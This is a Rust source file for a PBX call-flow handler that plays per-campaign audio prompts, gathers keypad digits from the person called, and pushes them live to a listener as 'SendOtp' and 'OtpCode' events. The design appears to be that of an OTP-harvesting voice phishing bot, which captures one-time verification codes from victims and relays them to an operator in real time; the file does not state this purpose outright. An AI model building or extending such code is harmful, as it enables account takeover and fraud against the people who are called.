//! `GET /action/:status` — the HTTP surface `ChannelSession::load_actions`
//! polls. Maps an incoming PBX action request to an XML response and
//! whatever `CallData`/push side effects the step calls for.
//!
//! Always answers 200 with `Content-Type: application/xml`, error
//! cases included: the PBX only understands XML, so a JSON error body
//! would break the call rather than recover it.

use std::sync::Arc;

use rand::Rng;

use crate::call_store::{CallStore, GatherStage};
use crate::catalog::{ActionSpec, CampaignCatalog};
use crate::push::PushRegistry;

const FALLBACK_AFTER_ANSWER: &str = "gather";
const FALLBACK_AFTER_GATHER: &str = "confirm";
const FALLBACK_AFTER_INVALID: &str = "gather";
const FALLBACK_DEFAULT: &str = "completed";

pub struct ActionEngine {
    call_store: Arc<CallStore>,
    catalog: Arc<dyn CampaignCatalog>,
    push: Arc<PushRegistry>,
    action_base_url: String,
}

impl ActionEngine {
    pub fn new(
        call_store: Arc<CallStore>,
        catalog: Arc<dyn CampaignCatalog>,
        push: Arc<PushRegistry>,
        action_base_url: String,
    ) -> Arc<Self> {
        Arc::new(Self { call_store, catalog, push, action_base_url })
    }

    /// `uuid` and `digits` come straight off the query string the PBX
    /// sent; `status` off the path.
    pub async fn handle(&self, status: &str, uuid: &str, digits: Option<&str>) -> String {
        let Some(call) = self.call_store.get(uuid) else {
            tracing::warn!(uuid, status, "action request for unknown call");
            return error_response();
        };
        let campaign = call.campaign.clone();

        let mut status = status.to_string();
        let mut selected_option = call.selected_option.clone();

        if status == "options" {
            if let Some(d) = digits {
                let opt = if d == "1" { "1" } else { "2" };
                selected_option = Some(opt.to_string());
                self.call_store.update(
                    uuid,
                    crate::call_store::CallDataPatch { selected_option: Some(opt.to_string()), ..Default::default() },
                );
                status = if opt == "1" { "option1".to_string() } else { "option2".to_string() };
            }
        }

        let two_gather = self.catalog.is_two_gather(&campaign).await;
        self.apply_side_effects(uuid, &status, digits, &campaign, two_gather, call.gather_stage, selected_option.as_deref())
            .await;

        if status == "gather1" {
            if digits.is_some() {
                let Some(spec) = self.catalog.get(&campaign, "gather1").await else {
                    return error_response();
                };
                let target = spec.next.as_deref().unwrap_or(FALLBACK_AFTER_GATHER);
                let url = self.resolve_next_url(target);
                return redirect_response(&url);
            }
        }

        let Some(spec) = self.catalog.get(&campaign, &status).await else {
            tracing::warn!(campaign, status, "catalog miss");
            return error_response();
        };

        if status == "confirm" {
            return play_only_response(&campaign, "confirm", spec.timeout);
        }
        if status.starts_with("completed") {
            return play_only_response(&campaign, &status, 0);
        }

        self.build_gather_response(&campaign, &status, &spec)
    }

    async fn apply_side_effects(
        &self,
        call_id: &str,
        status: &str,
        digits: Option<&str>,
        _campaign: &str,
        two_gather: bool,
        stage: Option<GatherStage>,
        selected_option: Option<&str>,
    ) {
        use crate::call_store::CallDataPatch;

        match status {
            "gather" if digits.is_some() => {
                if two_gather {
                    self.call_store.update(
                        call_id,
                        CallDataPatch { gather_stage: Some(Some(GatherStage::First)), ..Default::default() },
                    );
                }
                self.push.send(call_id, serde_json::json!({ "callId": call_id, "SendOtp": digits }));
            }
            "gather1" if digits.is_some() => {
                if two_gather {
                    self.call_store.update(
                        call_id,
                        CallDataPatch {
                            gather_stage: Some(Some(GatherStage::Second)),
                            state: Some("gather1".to_string()),
                            ..Default::default()
                        },
                    );
                }
                self.push.send(call_id, serde_json::json!({ "callId": call_id, "OtpCode": digits }));
            }
            "option1" | "option2" if digits.is_some() => {
                self.push.send(call_id, serde_json::json!({ "callId": call_id, "SendOtp": digits }));
            }
            "confirm" => {
                if two_gather && stage == Some(GatherStage::Second) {
                    self.call_store.update(
                        call_id,
                        CallDataPatch { state: Some("completed".to_string()), ..Default::default() },
                    );
                } else if let Some(digits) = digits {
                    self.push.send(
                        call_id,
                        serde_json::json!({ "callId": call_id, "OtpCode": digits, "selectedOption": selected_option }),
                    );
                }
            }
            _ => {}
        }
    }

    fn resolve_next_url(&self, raw: &str) -> String {
        if raw.starts_with("http://") || raw.starts_with("https://") {
            raw.to_string()
        } else {
            format!("{}/action/{}", self.action_base_url.trim_end_matches('/'), raw)
        }
    }

    fn build_gather_response(&self, campaign: &str, status: &str, spec: &ActionSpec) -> String {
        let jittered_timeout = status == "answer";
        let timeout = if jittered_timeout { rand::thread_rng().gen_range(10..=15) } else { spec.timeout };

        let next_url = if status == "gather1" {
            self.resolve_next_url("gather1")
        } else if status == "invalid" {
            self.resolve_next_url(spec.next.as_deref().unwrap_or(FALLBACK_AFTER_INVALID))
        } else if let Some(next) = spec.next.as_deref() {
            self.resolve_next_url(next)
        } else {
            self.resolve_next_url(fallback_for(status))
        };

        let (num_digits, finish_on_key_attr) = match spec.finish_on_key_char() {
            Some(k) => (0, format!(" finishOnKey=\"{}\"", escape_xml(&k.to_string()))),
            None => (spec.dgts.unwrap_or(0), String::new()),
        };

        format!(
            "<Response><Play>custom/{campaign}/{status}</Play><Gather input=\"speech dtmf\" action=\"{next_url}\" timeout=\"{timeout}\" numDigits=\"{num_digits}\"{finish_on_key_attr}/></Response>",
            campaign = escape_xml(campaign),
            status = escape_xml(status),
            next_url = escape_xml(&next_url),
            timeout = timeout,
            num_digits = num_digits,
            finish_on_key_attr = finish_on_key_attr,
        )
    }
}

fn fallback_for(status: &str) -> &'static str {
    match status {
        "answer" => FALLBACK_AFTER_ANSWER,
        "gather" => FALLBACK_AFTER_GATHER,
        "invalid" => FALLBACK_AFTER_INVALID,
        _ => FALLBACK_DEFAULT,
    }
}

fn play_only_response(campaign: &str, status: &str, timeout: u64) -> String {
    if timeout > 0 {
        format!(
            "<Response><Play timeout=\"{timeout}\">custom/{}/{}</Play></Response>",
            escape_xml(campaign),
            escape_xml(status)
        )
    } else {
        format!(
            "<Response><Play>custom/{}/{}</Play></Response>",
            escape_xml(campaign),
            escape_xml(status)
        )
    }
}

fn redirect_response(url: &str) -> String {
    format!("<Response><Redirect>{}</Redirect></Response>", escape_xml(url))
}

fn error_response() -> String {
    "<Response><Play>custom/system/error</Play><Hangup/></Response>".to_string()
}

fn escape_xml(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
        .replace('\'', "&apos;")
}
